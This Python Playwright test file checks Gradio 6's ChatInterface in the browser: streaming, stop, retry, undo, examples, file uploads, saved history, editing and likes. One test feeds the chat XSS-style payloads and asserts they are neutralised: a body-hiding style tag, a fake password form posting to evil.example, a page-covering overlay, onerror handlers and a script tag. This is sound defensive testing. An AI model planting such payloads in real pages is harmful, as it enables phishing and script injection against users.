"""gr.ChatInterface drawn by Gradio 6's own frontend, driven as a user would:
type, press Enter or the send button, watch the reply stream in, Stop it, retry/undo/clear,
click an example, set an additional input in its accordion."""
import re

from playwright.sync_api import expect

from browser_helpers import open_app

GRADIO = ""  # no attribute needed: every app is drawn by Gradio's frontend

APP = """
import time
import gradio as gr

def reply(message, history, tone):
    if message == "count":
        for i in range(40):
            time.sleep(0.25)
            yield f"counting {i}"
        return
    text = f"{tone} reply to {message} after {len(history)} messages"
    for i in range(1, len(text) + 1, 4):
        time.sleep(0.03)
        yield text[:i]
    yield text

demo = gr.ChatInterface(
    reply,
    additional_inputs=[gr.Textbox("plain", label="Tone")],
    examples=[["hello there", None], ["what is up", None]],
    title="Echo bot",
)
"""


def chat(page):
    return page.get_by_role("log", name="chatbot conversation")


def box(page):
    # Gradio's chat box has no visible label; its placeholder goes once a message is sent (as in 6.31)
    return page.get_by_role("textbox", name="Textbox")


def bubbles(page):
    return chat(page).get_by_role("paragraph")


def test_send_streams_the_reply_and_history_grows(context, lite_site):
    page = open_app(context, lite_site.app_url(APP, GRADIO))
    expect(page.get_by_role("heading", name="Echo bot")).to_be_visible()
    # every text the reply bubble shows, as the page draws it (a poll could miss a fast stream)
    page.evaluate("""() => { window.__seen = []; new MutationObserver(() => {
        const bot = [...document.querySelectorAll('[data-testid=bot]')].pop();
        if (bot && window.__seen.at(-1) !== bot.textContent) window.__seen.push(bot.textContent); })
      .observe(document.querySelector('gradio-lite'), { subtree: true, childList: true, characterData: true }); }""")
    page.get_by_placeholder("Type a message...").fill("hi")
    page.get_by_placeholder("Type a message...").press("Enter")
    expect(bubbles(page).first).to_have_text("hi")
    reply = bubbles(page).nth(1)
    final = "plain reply to hi after 0 messages"
    expect(reply).to_have_text(final, timeout=15_000)
    seen = [t.strip() for t in page.evaluate("window.__seen")]
    partial = [t for t in seen if t and t != final and final.startswith(t)]
    assert partial, seen  # drawn while it streamed, not only at the end
    expect(box(page)).to_have_value("")
    box(page).fill("again")
    page.locator("button.submit-button").click()
    expect(bubbles(page).nth(3)).to_have_text("plain reply to again after 2 messages", timeout=15_000)


def test_stop_retry_undo_clear(context, lite_site):
    page = open_app(context, lite_site.app_url(APP, GRADIO))
    page.get_by_placeholder("Type a message...").fill("count")
    page.get_by_placeholder("Type a message...").press("Enter")
    expect(bubbles(page).nth(1)).to_have_text(re.compile(r"counting ([2-9]|1\d)$"), timeout=15_000)
    expect(box(page)).to_be_disabled()
    page.locator("button.stop-button").click()
    expect(box(page)).to_be_enabled(timeout=5_000)
    stopped = bubbles(page).nth(1).inner_text()
    page.wait_for_timeout(1000)
    assert bubbles(page).nth(1).inner_text() == stopped != "counting 39"
    box(page).fill("second")
    box(page).press("Enter")
    expect(bubbles(page).nth(3)).to_have_text("plain reply to second after 2 messages", timeout=15_000)
    page.get_by_role("button", name="Retry").click()  # the last exchange again, same history
    expect(bubbles(page)).to_have_count(4)
    expect(bubbles(page).nth(3)).to_have_text("plain reply to second after 2 messages", timeout=15_000)
    page.get_by_role("button", name="Undo").click()  # the last exchange goes; its message is back in the box
    expect(bubbles(page)).to_have_count(2)
    expect(box(page)).to_have_value("second")
    page.get_by_role("button", name="Clear").click()
    expect(bubbles(page)).to_have_count(0)
    box(page).press("Enter")  # history is empty again for the reply
    expect(bubbles(page).nth(1)).to_have_text("plain reply to second after 0 messages", timeout=15_000)


def test_examples_and_additional_inputs(context, lite_site):
    page = open_app(context, lite_site.app_url(APP, GRADIO))
    # the app's load events first: an answer arriving after the user typed would put the value back
    page.wait_for_function("() => !document.querySelector('.lb-mount[aria-busy]')")
    page.get_by_role("button", name="Additional inputs").click()
    tone = page.get_by_label("Tone")
    expect(tone).to_have_value("plain")
    # Gradio's core applies the config's props to children it held back in a closed accordion
    # just after drawing them: text typed within that moment is overwritten
    page.wait_for_timeout(700)
    tone.fill("cheerful")
    tone.press("Tab")
    page.wait_for_timeout(1500)  # a typed value reaches Gradio's state on a later tick (so on a server too)
    expect(tone).to_have_value("cheerful")
    page.get_by_text("hello there").click()  # an example in the chatbot runs at once
    expect(bubbles(page).nth(0)).to_have_text("hello there")
    expect(bubbles(page).nth(1)).to_have_text("cheerful reply to hello there after 0 messages", timeout=15_000)


HOSTILE_APP = '''
import gradio as gr

HOSTILE = """<style>body { display: none !important; }</style>
<form action="https://evil.example"><input type="password" name="p"><button>Log in</button></form>
<div style="position:fixed;inset:0;background:red;z-index:9999">cover</div>
<img src="x" onerror="window.pwned = 1"><script>window.pwned = 2</script> **bold** end"""

def reply(message, history):
    return [gr.ChatMessage(content=HOSTILE, metadata={"title": "<img src=x onerror='window.pwned=3'>tool"}),
            HOSTILE]

demo = gr.ChatInterface(reply)
'''

HOSTILE_CHECK = """() => {
  const log = document.querySelector('[role=log]');
  const cover = [...log.querySelectorAll('div')].filter(d => d.textContent.trim() === 'cover');
  return {
    styles: log.querySelectorAll('style').length, scripts: log.querySelectorAll('script').length,
    forms: document.querySelectorAll('.lb-mount form').length,
    passwords: document.querySelectorAll('.lb-mount input[type=password]').length,
    fixed: cover.filter(d => getComputedStyle(d).position === 'fixed').length,
    handlers: [...log.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length,
    pwned: window.pwned ?? null, body: getComputedStyle(document.body).display,
  };
}"""


def test_hostile_html_in_messages_stays_harmless(context, lite_site):
    page = open_app(context, lite_site.app_url(HOSTILE_APP, GRADIO))
    page.get_by_placeholder("Type a message...").fill('<img src=x onerror="window.pwned=4">hello')
    page.get_by_placeholder("Type a message...").press("Enter")
    expect(chat(page).get_by_text("bold").last).to_be_visible(timeout=15_000)
    page.wait_for_timeout(500)
    got = page.evaluate(HOSTILE_CHECK)
    assert got == {"styles": 0, "scripts": 0, "forms": 0, "passwords": 0, "fixed": 0, "handlers": 0,
                   "pwned": None, "body": "block"}
    box(page).fill("still usable")  # nothing covers the app
    expect(box(page)).to_have_value("still usable")


MULTI_APP = """
import gradio as gr

def reply(message, history, style):
    names = ", ".join(f.rsplit("/", 1)[-1] for f in message["files"]) or "no files"
    return f"{style}: {message['text']} ({names})"

demo = gr.ChatInterface(
    reply,
    multimodal=True,
    additional_inputs=[gr.Radio(["short", "long"], value="short", label="Style")],
    examples=[[{"text": "summarise"}, "long"], [{"text": "translate"}, None]],
)
"""


def test_multimodal_box_and_examples_with_inputs(context, lite_site, tmp_path):
    page = open_app(context, lite_site.app_url(MULTI_APP, GRADIO))
    page.get_by_role("cell", name="summarise").click()  # examples with inputs: a table that fills them
    page.get_by_role("button", name="Additional inputs").click()
    expect(page.get_by_role("radio", name="long")).to_be_checked()
    expect(box(page)).to_have_value("summarise")
    (tmp_path / "notes.txt").write_text("hello")
    page.locator("input[type=file]").set_input_files(str(tmp_path / "notes.txt"))
    expect(page.get_by_role("list", name="Attached files")).to_contain_text("notes.txt")
    box(page).press("Enter")
    expect(bubbles(page).last).to_have_text("long: summarise (notes.txt)", timeout=15_000)


HISTORY_APP = """
import gradio as gr

def reply(message, history):
    return f"echo {message}"

demo = gr.ChatInterface(reply, save_history=True)
"""


def test_save_history_keeps_conversations_in_the_browser(context, lite_site):
    url = lite_site.app_url(HISTORY_APP, GRADIO)
    page = open_app(context, url)
    page.get_by_placeholder("Type a message...").fill("first chat")
    page.get_by_placeholder("Type a message...").press("Enter")
    expect(bubbles(page).nth(1)).to_have_text("echo first chat", timeout=15_000)
    expect(page.get_by_role("cell", name="first chat")).to_be_visible()
    page.get_by_role("button", name="New chat").click()
    expect(bubbles(page)).to_have_count(0)
    box(page).fill("second chat")
    box(page).press("Enter")
    expect(bubbles(page).nth(1)).to_have_text("echo second chat", timeout=15_000)
    expect(page.get_by_role("row")).to_have_text(["second chat", "first chat"])
    page.reload()
    expect(page.get_by_role("cell", name="second chat")).to_be_visible(timeout=60_000)
    expect(page.get_by_role("cell", name="first chat")).to_be_visible()
    page.get_by_role("cell", name="first chat").click()
    expect(bubbles(page).nth(1)).to_have_text("echo first chat")


EDIT_APP = """
import gradio as gr

def reply(message, history):
    return gr.ChatMessage(f"echo {message} after {len(history)}")

demo = gr.ChatInterface(reply, editable=True)
"""


def test_editing_a_message_regenerates_from_there(context, lite_site):
    page = open_app(context, lite_site.app_url(EDIT_APP, GRADIO))
    for n, message in enumerate(("first", "second")):
        box(page).fill(message)
        box(page).press("Enter")
        expect(bubbles(page).nth(2 * n + 1)).to_have_text(f"echo {message} after {2 * n}", timeout=15_000)
    chat(page).get_by_role("button", name="Edit").first.click()
    chat(page).get_by_role("textbox").fill("premier")
    chat(page).get_by_role("button", name="Submit").click()
    expect(bubbles(page)).to_have_count(2, timeout=15_000)
    expect(bubbles(page).nth(0)).to_have_text("premier")
    expect(bubbles(page).nth(1)).to_have_text("echo premier after 0")


LIKE_APP = """
import gradio as gr

def liked(data: gr.LikeData):
    return f"{data.index} {data.liked} {'Choose one' in str(data.value)}"

with gr.Blocks() as demo:
    bot = gr.Chatbot([{"role": "user", "content": "hi"}, gr.ChatMessage("Choose one")])
    out = gr.Textbox(label="Feedback")
    bot.like(liked, None, out)
"""


def test_like_sends_like_data(context, lite_site):
    page = open_app(context, lite_site.app_url(LIKE_APP, GRADIO))
    chat(page).get_by_role("button", name="Like", exact=True).click()
    expect(page.get_by_label("Feedback")).to_have_value("1 True True")
    chat(page).get_by_role("button", name="Dislike").click()
    expect(page.get_by_label("Feedback")).to_have_value("1 False True")
